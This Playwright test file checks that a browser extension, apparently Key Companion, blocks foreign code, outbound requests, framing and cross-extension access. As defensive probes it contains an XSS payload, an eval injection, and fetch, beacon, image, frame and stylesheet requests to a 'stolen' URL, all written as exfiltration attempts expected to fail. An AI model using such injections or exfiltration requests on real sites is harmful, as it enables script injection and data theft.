import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { expect, test } from '../support/fixtures';
import { EXTENSION, idOf, launchBrowser } from '../support/launch';

/** What a page reports of its own content security policy. */
async function withRefusals(page: Page, act: () => Promise<unknown>): Promise<() => Promise<string[]>> {
  await page.evaluate(() => {
    const refused: string[] = [];
    (window as any).refused = refused;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective));
  });
  await act();
  return () => page.evaluate(() => (window as any).refused);
}

test('our own pages and the worker run no foreign code, make no requests and cannot be framed', async ({
  keyCompanion,
}) => {
  const answered: string[] = [];
  keyCompanion.context.on('response', (response) => answered.push(response.url()));
  for (const name of ['popup.html', 'options.html']) {
    const page = await keyCompanion.context.newPage();
    const said: string[] = [];
    page.on('console', (line) => said.push(line.text()));
    await page.goto(keyCompanion.baseUrl + name);
    await expect(page.getByRole('heading').first()).toBeVisible();
    expect(said, `${name} breaks none of its own rules`).toEqual([]);

    const refused = await withRefusals(page, () =>
      page.evaluate(async () => {
        const attempt = async (act: () => unknown): Promise<void> =>
          void (await Promise.resolve()
            .then(act)
            .catch(() => undefined));
        const add = (tag: string, fields: object): unknown =>
          document.body.append(Object.assign(document.createElement(tag), fields));
        await attempt(() => {
          document.body.innerHTML = '<img src=x onerror=alert(1)>';
        });
        await attempt(() => {
          (globalThis as any).trustedTypes.createPolicy('own', {});
        });
        await attempt(() => fetch('https://data.gov.sg/stolen?by=fetch'));
        await attempt(() => add('img', { src: 'https://data.gov.sg/stolen?by=image' }));
        await attempt(() => add('iframe', { src: 'https://data.gov.sg/stolen?by=frame' }));
        await attempt(() => add('link', { rel: 'stylesheet', href: 'https://data.gov.sg/stolen?by=style' }));
        await attempt(() => navigator.sendBeacon('https://data.gov.sg/stolen?by=beacon'));
        // A script only tries once it is markup: its address is refused as a text already.
        await attempt(() => add('script', { src: 'https://data.gov.sg/stolen.js' }));
        // Debuggers may evaluate, and what they start; a task of its own is the page's.
        await attempt(
          () =>
            new Promise((_, reject) =>
              setTimeout(() => {
                try {
                  // oxlint-disable-next-line no-eval -- that it is refused is what is tested
                  reject((0, eval)('document.title = "taken"'));
                } catch (error) {
                  reject(error);
                }
              }),
            ),
        );
      }),
    );
    // A frame is refused by another process, a moment later.
    await expect
      .poll(refused, { message: name })
      .toEqual(
        expect.arrayContaining([
          'require-trusted-types-for',
          'trusted-types',
          'connect-src',
          'img-src',
          'frame-src',
          'style-src-elem',
        ]),
      );
    expect(await page.title()).not.toBe('taken');
    await expect(page.getByRole('heading').first()).toBeVisible();
    await page.close();
  }
  const worker = await keyCompanion.worker();
  expect(
    await worker.evaluate(() =>
      fetch('https://data.gov.sg/stolen?by=worker').then(
        () => 'sent',
        () => 'refused',
      ),
    ),
  ).toBe('refused');

  const tab = await keyCompanion.openTab();
  await tab.evaluate(
    (url) => document.body.append(Object.assign(document.createElement('iframe'), { src: url })),
    `${keyCompanion.baseUrl}popup.html`,
  );
  await expect.poll(() => tab.frames().length).toBe(2);
  await expect.poll(() => tab.frames()[1]!.url()).not.toMatch(/^(about:blank)?$/);
  expect(tab.frames()[1]!.url()).not.toContain('popup.html');
  expect(answered).toContain(tab.url());
  expect(answered.filter((url) => url.includes('stolen'))).toEqual([]);
});

test('another extension can neither speak to ours nor read its files', async ({ profile }) => {
  const folder = mkdtempSync(join(tmpdir(), 'key-companion-stranger-'));
  writeFileSync(join(folder, 'manifest.json'), JSON.stringify({ manifest_version: 3, name: 'Stranger', version: '1' }));
  writeFileSync(join(folder, 'page.html'), '<h1>Stranger</h1>');
  const browser = await launchBrowser({ profile, extension: `${EXTENSION},${folder}` });
  try {
    const stranger = await browser.context.newPage();
    await stranger.goto(`chrome-extension://${idOf(folder)}/page.html`);
    const answers = await stranger.evaluate(async (target) => {
      const { runtime } = (globalThis as any).chrome;
      return [
        await runtime.sendMessage(target, { type: 'deleteEverything', body: {} }).catch(() => 'refused'),
        await new Promise((resolve) => runtime.connect(target).onDisconnect.addListener(() => resolve('refused'))),
        await fetch(`chrome-extension://${target}/popup.html`).catch(() => 'refused'),
        await fetch(`chrome-extension://${target}/clipboard-hook.js`).catch(() => 'refused'),
      ];
    }, new URL(browser.baseUrl).hostname);
    expect(answers).toEqual(['refused', 'refused', 'refused', 'refused']);
  } finally {
    await browser.close();
    rmSync(folder, { recursive: true, force: true });
  }
});
